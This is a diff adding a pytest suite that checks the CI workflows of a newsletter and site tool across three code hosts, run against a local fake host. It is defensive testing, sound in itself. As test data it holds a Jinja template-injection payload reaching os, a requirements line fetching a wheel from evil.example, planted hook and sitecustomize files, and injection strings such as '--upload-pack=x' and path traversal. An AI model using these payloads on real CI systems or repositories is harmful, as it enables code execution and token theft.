@@ -1,0 +1,434 @@
+"""By itself, at a code host: each shell step of each workflow runs in a clean clone, with a code host on loopback."""
+
+import json
+import re
+import subprocess
+import sys
+from datetime import UTC, datetime
+from pathlib import Path
+from shutil import rmtree
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from pydantic import SecretStr
+
+from code_host import TOKEN, Runner, forge_in, git
+from pipeline.app.hosts import comment
+from pipeline.app.hosts.asked import MARK, Asked
+from pipeline.app.hosts.branch import Branch
+from pipeline.app.hosts.runs import run_of
+from pipeline.app.hosts.told import told
+from pipeline.app.lasting import see_that_it_lasts
+from pipeline.cli.init import _new_files, make
+from pipeline.errors import CodeHostError, UsageError
+from pipeline.model import Finding, Severity
+from pipeline.post import PROMPT
+from pipeline.settings import load
+from pipeline.settings.explained import explained
+
+REPOSITORY = Path(__file__).parents[1]
+SERVED = {
+    "BYLINE_SEND_UNSUBSCRIBE_URL": "https://letter.example/unsubscribe",
+    "BYLINE_PUBLISH_SUBSCRIBE_URL": "https://letter.example/subscribe",
+}
+HOSTS = ("github", "gitlab", "forgejo")
+VALUES = {
+    "name": "Ana Ruiz",
+    "email": "ana@ana-ruiz.example",
+    "url": "https://ana-ruiz.example/",
+    "line": "What happened.",
+    "date": "2026-11-23",
+    "file": "2026-11-23-why-i-write-this.md",
+}
+FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>One</title><link>https://one.example/</link>
+<item><guid>1</guid><title>Rotterdam runs 24 yard cranes from a remote desk</title><link>https://one.example/1</link>
+<description>Rotterdam will run its 24 yard cranes from one remote desk, says @everybody: fixes #1 ``` ::error::
+</description></item></channel></rss>"""
+POST = """---
+date: {date}
+title: {title}
+kind: edition
+---
+Words of mine on the yard.
+"""
+
+RUNS = "{% block container %}{{ cycler.__init__.__globals__.os.mknod('RAN') }}{% endblock %}"
+
+
+@pytest.fixture(scope="module")
+def wheel(tmp_path_factory):
+    """Byline as a wheel, built once."""
+    folder = tmp_path_factory.mktemp("wheel")
+    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", folder]
+    subprocess.run(build, cwd=REPOSITORY, check=True, capture_output=True)
+    return next(folder.glob("*.whl"))
+
+
+@pytest.fixture
+def forge(tmp_path):
+    with forge_in(tmp_path / "forge") as forge:
+        yield forge
+
+
+@pytest.fixture
+def begun(tmp_path, forge, web, wheel):
+    """A function that puts a new author's site at a code host and gives what runs its workflows."""
+
+    def begin(host, **send):
+        site = tmp_path / "home"
+        make(site, dict(_new_files(VALUES | {"host": host})))
+        values = yaml.safe_load((site / "byline.yml").read_text(encoding="utf-8"))
+        web.serve("/one.xml", FEED)
+        feeds = [f"{web.url}/one.xml", f"{web.url}/gone.xml"]
+        values["pull"]["feeds"] = [{"url": feed, "allow_private": True} for feed in feeds]
+        values["send"] |= send
+        (site / "byline.yml").write_text(explained(values), encoding="utf-8")
+        (site / "requirements.txt").write_text(f"byline @ {wheel.as_uri()}\n", encoding="utf-8")
+        git(site, "init", "--quiet")
+        commit(site, "The site")
+        git(site, "remote", "add", "origin", forge.bare)
+        git(site, "push", "--quiet", "origin", "main")
+        (tmp_path / "runs").mkdir()
+        event = tmp_path / "event.json"
+        event.write_text(json.dumps({"pull_request": {"number": 5}}), encoding="utf-8")
+        values = {"github.token": TOKEN, "secrets.CODE_HOST_TOKEN": TOKEN, "github.base_ref": "main"}
+        return site, Runner(forge, tmp_path / "runs", of_run(host, forge, event, tmp_path), values)
+
+    return begin
+
+
+def of_run(host, forge, event, folder):
+    """What a code host tells a run."""
+    if host == "gitlab":
+        return {
+            "GITLAB_CI": "true",
+            "CI_API_V4_URL": f"{forge.url}/api",
+            "CI_PROJECT_ID": "7",
+            "CI_PROJECT_URL": f"{forge.url}/ana/site",
+            "CI_DEFAULT_BRANCH": "main",
+            "CI_MERGE_REQUEST_IID": "5",
+            "CI_MERGE_REQUEST_DIFF_BASE_SHA": "origin/main",
+        }
+    return {
+        "GITHUB_ACTIONS": "true",
+        **({"FORGEJO_ACTIONS": "true"} if host == "forgejo" else {}),
+        "GITHUB_API_URL": f"{forge.url}/api",
+        "GITHUB_SERVER_URL": forge.url,
+        "GITHUB_REPOSITORY": "ana/site",
+        "GITHUB_REF_NAME": "main",
+        "GITHUB_EVENT_PATH": str(event),
+        "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
+    }
+
+
+def commit(site, words):
+    git(site, "add", "--all")
+    git(site, "commit", "--quiet", "-m", words)
+
+
+def run(runner, host, site, name, jobs=(), branch="main", *, skip=()):  # noqa: PLR0913
+    """Run one of the four workflows; return the exit code of each job."""
+    if host == "gitlab":
+        text = (site / ".gitlab-ci.yml").read_text(encoding="utf-8")
+        return runner.of_gitlab(text, [job for job in jobs if job not in skip], branch)
+    return runner.of_actions((site / f".{host}/workflows/{name}.yml").read_text(encoding="utf-8"), branch, skip)
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_the_weekly_run_proposes_a_draft_with_findings_and_previews_once(host, begun, forge):
+    site, runner = begun(host)
+    for skip in ((), ("draft",) if host != "forgejo" else ()):  # Forgejo's is one job
+        assert set(run(runner, host, site, "weekly", ("draft", "propose"), skip=skip).values()) == {0}, runner.said
+    [asked] = forge.requests
+    branch = asked.get("head") or asked["source_branch"]
+    assert forge.branches() == sorted(["main", branch])
+    [post] = set(forge.files_of(branch)) - set(forge.files_of("main"))
+    assert re.fullmatch(r"content/posts/[\w-]+\.md", post)
+    assert PROMPT in git(forge.bare, "show", f"{branch}:{post}")
+    body = asked.get("body") or asked["description"]
+    assert "no-words" in body
+    made = {path.name.partition(".")[2] for path in runner.folder.rglob("*") if path.is_file() and "kept-" in str(path)}
+    assert {"page.html", "letter.html", "letter.txt", "letter.eml", "md"} <= made
+    assert "is proposed already" in runner.said
+    assert TOKEN not in runner.said
+    assert git(forge.bare, "log", "-1", "--format=%an", branch) == "Byline\n"
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_the_check_comments_what_it_finds_in_changed_posts_in_one_comment(host, begun, forge):
+    site, runner = begun(host)
+    git(site, "switch", "--quiet", "--create", "words")
+    post = site / "content/posts/2026-11-24-cranes.md"
+    text = (
+        POST.format(date="2026-11-24", title="Cranes") + "\n## [Cranes](https://one.example/1)\n\n> Not what it says.\n"
+    )
+    post.write_text(text, encoding="utf-8")
+    for words in ("begun", "more"):
+        post.write_text(post.read_text(encoding="utf-8") + f"\n{words}\n", encoding="utf-8")
+        commit(site, words)
+        git(site, "push", "--quiet", "origin", "words")
+        codes = run(runner, host, site, "check", ("check", "comment"), "words")
+        assert codes["check"] == 1
+        assert set(codes.values()) <= {0, 1}
+    [comment] = forge.comments
+    assert "content/posts/2026-11-24-cranes.md" in comment["body"]
+    assert "why-i-write-this" not in comment["body"]  # it is as it was
+    assert [each[0] for each in forge.asked] == ["GET", "POST", "GET", "PUT" if host == "gitlab" else "PATCH"]
+    assert TOKEN not in runner.said
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_what_strangers_propose_is_read_and_never_run(host, begun, tmp_path):
+    """Hooks, templates and what is installed are theirs in their branch: none of it runs."""
+    site, runner = begun(host)
+    git(site, "switch", "--quiet", "--create", "theirs")
+    ran = tmp_path / "ran"
+    (site / "hook.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
+    with (site / "mkdocs.yml").open("a", encoding="utf-8") as settings:
+        settings.write("\nhooks: [hook.py]\n")
+    for template in (site / "overrides").rglob("*.html"):
+        template.write_text(RUNS.replace("RAN", str(ran)), encoding="utf-8")
+    (site / "requirements.txt").write_text("byline @ https://evil.example/byline.whl\n", encoding="utf-8")
+    (site / "sitecustomize.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
+    (site / "content/posts/2026-11-24-x.md").write_text(POST.format(date="2026-11-24", title="X"), encoding="utf-8")
+    commit(site, "theirs")
+    git(site, "push", "--quiet", "origin", "theirs")
+    codes = run(runner, host, site, "check", ("check",), "theirs", skip=("comment",))
+    assert codes == {"check": 1}, runner.said  # it has no words, as was seen
+    assert "1 changed post, 1 error" in runner.said
+    assert not ran.exists()
+    [place] = [path.parent for path in runner.folder.glob("job*/site/report")]
+    runner.shell("byline ci report --since origin/main --preview", place, {})
+    assert ran.exists()  # so it would have been seen
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_a_merge_is_built_and_put_online(host, begun, forge):
+    site, runner = begun(host)
+    assert set(run(runner, host, site, "publish", ("pages",)).values()) == {0}, runner.said
+    if host == "forgejo":
+        run(runner, host, site, "publish")
+        assert {"index.html", "feed.xml"} <= set(forge.files_of("pages"))
+        assert "byline.yml" not in forge.files_of("pages")
+        assert git(forge.bare, "rev-list", "--count", "pages") == "1\n"
+    else:
+        assert (runner.kept["pages"] / ("public/index.html" if host == "gitlab" else "index.html")).is_file()
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_without_a_memory_the_send_job_refuses_and_says_how_to_send_from_home(host, begun, mailbox):
+    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
+    merge_an_edition(site)
+    [code] = run(runner, host, site, "send", ("send",)).values()
+    assert code == 2
+    assert "DATABASE_URL" in runner.said
+    assert "git pull && byline send" in runner.said
+    assert mailbox.messages == []
+
+
+def merge_an_edition(site):
+    today = datetime.now(UTC).date()
+    (site / f"content/posts/{today}-yard.md").write_text(POST.format(date=today, title="Yard"), encoding="utf-8")
+    commit(site, "An edition")
+    git(site, "push", "--quiet", "origin", "main")
+
+
+@pytest.mark.parametrize("host", HOSTS)
+@pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
+def test_the_send_job_sends_the_merged_edition_once_however_often_it_runs(host, begun, mailbox, store_url):
+    from sending import filled
+
+    filled(store_url, 3).close()
+    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
+    merge_an_edition(site)
+    runner.values["secrets.DATABASE_URL"] = store_url
+    runner.environment |= {"DATABASE_URL": store_url} if host == "gitlab" else {}
+    for _ in range(2):
+        assert set(run(runner, host, site, "send", ("send",)).values()) == {0}, runner.said
+    assert len(mailbox.messages) == 3
+    assert len({to[0] for _, to, _ in mailbox.messages}) == 3
+
+
+@pytest.mark.parametrize("host", HOSTS)
+def test_every_shell_step_of_the_workflows_is_among_those_that_these_tests_run(host, tmp_path):
+    """A new job or workflow needs a test."""
+    make(tmp_path / "site", dict(_new_files(VALUES | {"host": host})))
+    if host == "gitlab":
+        jobs = yaml.safe_load((tmp_path / "site/.gitlab-ci.yml").read_text(encoding="utf-8"))
+        named = {name for name, job in jobs.items() if isinstance(job, dict) and "script" in job}
+        assert named == {"draft", "propose", "check", "comment", "pages", "send"}
+    else:
+        files = {path.stem for path in (tmp_path / f"site/.{host}/workflows").iterdir()}
+        assert files == {"weekly", "check", "publish", "send"}
+
+
+# -- the parts
+
+
+def of_github(forge, event="", **more):
+    return run_of(of_run("github", forge, event, Path("/nowhere")) | more)
+
+
+def test_a_run_is_known_by_what_its_code_host_says(forge, tmp_path):
+    event = tmp_path / "event"
+    event.write_text('{"pull_request": {"number": 5}}', encoding="utf-8")
+    assert {host: run_of(of_run(host, forge, event, tmp_path)).host for host in HOSTS} == {host: host for host in HOSTS}
+    assert {run_of(of_run(host, forge, event, tmp_path)).request for host in HOSTS} == {5}
+
+
+@pytest.mark.parametrize(
+    "told", ["", "[]", "{", '{"pull_request": {"number": true}}', '{"pull_request": 3}', "[" * 99999]
+)
+def test_an_event_that_tells_of_no_pull_request_is_about_none(told, forge, tmp_path):
+    (tmp_path / "event").write_text(told, encoding="utf-8")
+    run = of_github(forge, tmp_path / "event")
+    assert run.request is None
+    with pytest.raises(UsageError, match="about no pull request"):
+        comment(run, SecretStr(TOKEN), "words")
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("GITHUB_API_URL", "http://api.example"),
+        ("GITHUB_API_URL", "https://ana:secret@api.example"),
+        ("GITHUB_API_URL", "https://[x"),
+        ("GITHUB_SERVER_URL", "file:///srv"),
+        ("GITHUB_REPOSITORY", "ana/site/../../admin"),
+        ("GITHUB_REF_NAME", "--upload-pack=x"),
+        ("GITHUB_API_URL", ""),
+        ("GITHUB_ACTIONS", "false"),
+    ],
+)
+def test_a_token_goes_to_no_place_that_is_not_safe(variable, value, forge):
+    with pytest.raises(UsageError):
+        of_github(forge, **{variable: value})
+
+
+@pytest.mark.parametrize(
+    ("status", "said"),
+    [(401, f"bad {TOKEN}"), (403, "no"), (404, "no"), (422, "no commits between"), (500, "x" * 9999), (302, "there")],
+)
+def test_a_no_of_the_code_host_is_told_without_the_token(status, said, forge):
+    forge.answer = (status, {"message": said})
+    with pytest.raises(CodeHostError) as told:
+        Asked(of_github(forge), SecretStr(TOKEN)).open_request("draft/x", "X", "words")
+    assert str(status) in str(told.value)
+    assert TOKEN not in str(told.value)
+    assert len(str(told.value)) < 600
+
+
+@pytest.mark.parametrize(
+    "said", [None, {}, [3], [{"id": "x", "body": MARK}], [{"body": None}], [{"id": 1, "body": "other"}]]
+)
+def test_a_list_of_comments_that_holds_none_of_ours_gets_one(said, forge):
+    forge.answer = (200, said)
+    assert Asked(of_github(forge), SecretStr(TOKEN)).comment(5, "words") == "Commented on 5."
+
+
+def test_a_code_host_that_is_not_there_is_told(forge):
+    away = of_github(forge, GITHUB_API_URL="http://127.0.0.1:9")
+    with pytest.raises(CodeHostError, match="gives no answer"):
+        Asked(away, SecretStr(TOKEN)).comment(5, "words")
+
+
+def test_a_wrong_token_pushes_nothing_and_asks_nobody(forge, tmp_path):
+    git(tmp_path, "clone", "--quiet", forge.bare, "mine")
+    (tmp_path / "mine/a").write_text("a", encoding="utf-8")
+    commit(tmp_path / "mine", "a")
+    run = of_github(forge)
+    branch = Branch(tmp_path / "mine", run.remote, SecretStr("wrong"))
+    with pytest.raises(CodeHostError, match="git push says") as told:
+        branch.push("HEAD", "main")
+    assert "wrong" not in str(told.value)
+    assert forge.branches() == []
+
+
+words = st.text(st.sampled_from("`@#ab \n\r<&*:~"), max_size=60)
+
+
+@given(reason=words, remedy=words)
+def test_words_of_strangers_stand_as_code_and_nowhere_else(reason, remedy):
+    path = Path("/site/content/posts/x.md")
+    found = Finding(rule="r", severity=Severity.ERROR, path=path, line=3, reason=reason, remedy=remedy)
+    tokens = MarkdownIt("commonmark").parse(told(Path("/site"), [path], [found]))
+    fences = [token for token in tokens if token.type == "fence"]
+    assert len(fences) == 1
+    others = "".join(token.content for token in tokens if token.type == "inline")
+    assert others == "**`content/posts/x.md`** has 1 error and no more to look at."
+
+
+@pytest.mark.parametrize(
+    ("value", "is_thrown_away"), [("true", True), ("1", True), ("", False), ("false", False), ("0", False)]
+)
+def test_a_machine_that_is_thrown_away_is_known_by_ci(value, is_thrown_away, site):
+    assert load(site, {"CI": value}).is_thrown_away is is_thrown_away
+
+
+@pytest.mark.parametrize(
+    ("environment", "refused"),
+    [
+        ({}, "DATABASE_URL"),
+        ({"DATABASE_URL": "sqlite:////srv/byline.db"}, "DATABASE_URL"),
+        ({"BYLINE_SEND_WAY": "buttondown"}, None),
+        ({"BYLINE_SEND_WAY": "listmonk"}, None),
+        ({"BYLINE_SEND_WAY": "postmark"}, "DATABASE_URL"),
+        ({"DATABASE_URL": "postgres://ana@db.example/byline"}, None),
+        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED}, "BYLINE_TOKEN_KEYS"),
+        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED, "BYLINE_TOKEN_KEYS": "k" * 32}, None),
+    ],
+)
+def test_what_must_outlive_a_machine_is_looked_for_before_a_letter_leaves_it(environment, refused, site):
+    see_that_it_lasts(load(site, environment), "x")  # at home nothing of it matters
+    settings = load(site, environment | {"CI": "true"})
+    if refused is None:
+        see_that_it_lasts(settings, "x")
+    else:
+        with pytest.raises(UsageError, match=refused):
+            see_that_it_lasts(settings, "x")
+
+
+@pytest.mark.parametrize("words", [("--due",), ("x", "--at", "2026-12-01T08:00")])
+def test_what_is_planned_on_a_machine_that_is_thrown_away_would_be_forgotten(words, site, byline, monkeypatch):
+    (site / "content/posts/2026-11-23-x.md").write_text(POST.format(date="2026-11-23", title="X"), encoding="utf-8")
+    assert byline("send", *words, at=site)[0] == 0
+    monkeypatch.setenv("CI", "true")
+    code, _, err = byline("send", *words, at=site)
+    assert (code, "DATABASE_URL" in err) == (2, True)
+
+
+def test_the_newest_edition_is_that_of_these_days_on_the_site(site, open_app):
+    app = open_app(site)
+    with pytest.raises(UsageError, match="no edition"):
+        app.letters.newest()
+    for day in ("2026-11-01", "2026-11-30"):  # one too old, one of the days to come
+        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
+    with pytest.raises(UsageError, match="2026-11-01-x"):
+        app.letters.newest()
+    for day in ("2026-11-20", "2026-11-22"):
+        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
+    assert app.letters.newest().stem == "2026-11-22-x"
+
+
+def test_a_clean_clone_with_the_cache_of_the_last_run_builds_nothing_anew(begun, tmp_path):
+    _, runner = begun("github")
+    place = tmp_path / "job/site"
+    place.parent.mkdir()
+    built = []
+    for cached in (False, True):
+        runner.said = ""
+        git(place.parent, "clone", "--quiet", runner.forge.bare, place)
+        kept = f"tar -xf {tmp_path}/cache.tar" if cached else "python -m pip install -r requirements.txt"
+        assert (
+            runner.shell(
+                f"{kept}\nbyline publish --strict --json\ntar -cf {tmp_path}/cache.tar .byline/work", place, {}
+            )
+            == 0
+        )
+        built.append(json.loads(runner.said))
+        rmtree(place)
+    assert built[0]["fresh"] > 5
+    assert built[1] == built[0] | {"fresh": 0}
